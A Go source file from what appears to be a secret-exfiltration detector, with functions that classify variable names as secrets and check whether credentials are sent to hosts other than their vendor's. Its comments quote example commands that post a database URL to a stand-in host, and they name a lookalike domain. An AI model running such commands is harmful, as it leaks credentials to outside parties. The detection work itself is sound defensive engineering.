package patterns

import "strings"

// Secret names by their endings (fx53n, rt50 A10). A vendor's key is most
// often named for the vendor and nothing else ($STRIPE_KEY, $MAILGUN_KEY,
// $DB_PASS, $SENTRY_DSN): a name whose last word is KEY, PASS, PWD, DSN or
// SECRET holds a secret, bar the keys that name no secret (a cache's,
// a sort's, a partition's or an object's key, a public or publishable
// key, a site key). Secrets that are addresses ($DATABASE_URL,
// $REDIS_URL, $SLACK_WEBHOOK_URL, $SENTRY_DSN: the URL holds the
// password or is the credential) are their everyday selves as the
// address a client connects to (`psql "$DATABASE_URL"`, `curl
// "$SLACK_WEBHOOK_URL" -d @msg.json`), and are sent when they stand in
// a request's body, header or query to another host (`curl -d
// "$DATABASE_URL" https://x.io`, `curl "https://x.io/?d=$DATABASE_URL"`):
// addressSecretSent.

// secretEndings are the last words of a variable's name that say it holds
// a secret.
var secretEndings = []string{"KEY", "PASS", "PWD", "DSN"}

// notSecretKeys are the words before a final KEY that name a key which is
// no secret.
var notSecretKeys = []string{"CACHE", "SORT", "PARTITION", "PRIMARY", "HASH", "RANGE", "OBJECT", "S3",
	"IDEMPOTENCY", "PUBLIC", "PUBLISHABLE", "SITE", "LOOKUP", "ROUTING", "DEDUP", "FOREIGN", "GROUP", "ID"}

// secretEnding reports whether a variable's name ends in a word of
// secretEndings after an underscore (STRIPE_KEY, DB_PASS; not KEY, PWD,
// OLDPWD, CACHE_KEY).
func secretEnding(name string) bool {
	up := strings.ToUpper(name)
	i := strings.LastIndexByte(up, '_')
	if i <= 0 {
		return false
	}
	last, before := up[i+1:], up[:i]
	for _, e := range secretEndings {
		if last != e {
			continue
		}
		if e != "KEY" {
			return true
		}
		if j := strings.LastIndexByte(before, '_'); j >= 0 {
			before = before[j+1:]
		}
		for _, n := range notSecretKeys {
			if before == n {
				return false
			}
		}
		return true
	}
	return false
}

// addressSecretName reports whether a variable's name says it holds an
// address whose text is a secret: a database's or a queue's URL (its
// password inside), a DSN, a webhook's URL, a connection string.
func addressSecretName(name string) bool {
	up := strings.ToUpper(name)
	if strings.HasSuffix(up, "DSN") || strings.Contains(up, "WEBHOOK") || strings.Contains(up, "CONNECTION_STRING") {
		return true
	}
	for _, s := range []string{"DATABASE", "DB", "POSTGRES", "PG", "MYSQL", "MONGO", "MONGODB", "REDIS", "AMQP", "RABBITMQ", "BROKER"} {
		if up == s+"_URL" || up == s+"_URI" || strings.HasSuffix(up, "_"+s+"_URL") || strings.HasSuffix(up, "_"+s+"_URI") {
			return true
		}
	}
	return false
}

// addressSecretSent reports whether the address secret v, read in word w,
// is sent rather than connected to: w holds more than the variable at its
// start (a body "k=$V", a query "https://x.io/?d=$V"), or the part names
// a URL in another word (`curl -d "$V" https://x.io`).
func addressSecretSent(w *Word, v string, ctx *Context) bool {
	first := -1
	for i, s := range w.Segs {
		if s.Kind == SegLit && s.Text == "" {
			continue
		}
		first = i
		break
	}
	if first < 0 || w.Segs[first].Kind != SegParam || w.Segs[first].Text != v {
		return true
	}
	p := ctx.wordPart(w)
	if p == nil {
		return false
	}
	for _, r := range ctx.readArgs(p) {
		for _, o := range r.Operands {
			x := &p.Words[o]
			if x.Span == w.Span {
				continue
			}
			if t, ok := knownHostText(x); !ok || strings.Contains(t, "://") {
				return true // another address, or a word that might be one
			}
		}
	}
	return false
}

// A vendor's key sent to that vendor's API is its everyday use (fx53n,
// rt50 V036: `curl https://api.stripe.com/v1/charges -u "$STRIPE_KEY:"`):
// a token named VENDOR_… (its first word, three letters or more, not a
// generic word such as API, APP or DB) sent only to hosts whose
// registered name is VENDOR (api.stripe.com, api.mailgun.net; not
// stripe.evil.io) is left alone as one sent to secretHosts is.

// genericNameWords are first words of a variable's name that name no
// vendor.
var genericNameWords = []string{"API", "APP", "APPLICATION", "DB", "DATABASE", "MY", "LOCAL", "ADMIN", "SECRET",
	"AUTH", "ACCESS", "PRIVATE", "PUBLIC", "USER", "SERVICE", "PROD", "PRODUCTION", "STAGING", "DEV", "TEST",
	"CLIENT", "SERVER", "MASTER", "ROOT", "SESSION", "TOKEN", "BEARER", "CI", "DEPLOY", "WEBHOOK"}

// vendorOf returns the lower-cased first word of a variable's name when
// it may name a vendor.
func vendorOf(name string) (string, bool) {
	first, _, found := strings.Cut(strings.ToUpper(name), "_")
	if !found || len(first) < 3 || contains(genericNameWords, first) {
		return "", false
	}
	return strings.ToLower(first), true
}

// registeredLabel returns the label of host before its top-level domain
// (stripe of api.stripe.com), or "" for an address or a one-label name.
func registeredLabel(host string) string {
	labels := strings.Split(strings.TrimSuffix(strings.ToLower(host), "."), ".")
	if len(labels) < 2 || strings.Trim(host, "0123456789.:") == "" {
		return ""
	}
	return labels[len(labels)-2]
}

// sentToVendor reports whether every secret variable w reads names one
// vendor and the part sends only to that vendor's hosts.
func (c *Context) sentToVendor(w *Word) bool {
	vendor := ""
	for _, s := range w.Segs {
		for _, v := range s.ValueVars() {
			if !secretName(v) {
				continue
			}
			name, ok := vendorOf(v)
			if !ok || vendor != "" && name != vendor {
				return false
			}
			vendor = name
		}
	}
	if vendor == "" {
		return false
	}
	return c.sentOnlyTo(w, func(host string) bool { return registeredLabel(host) == vendor })
}
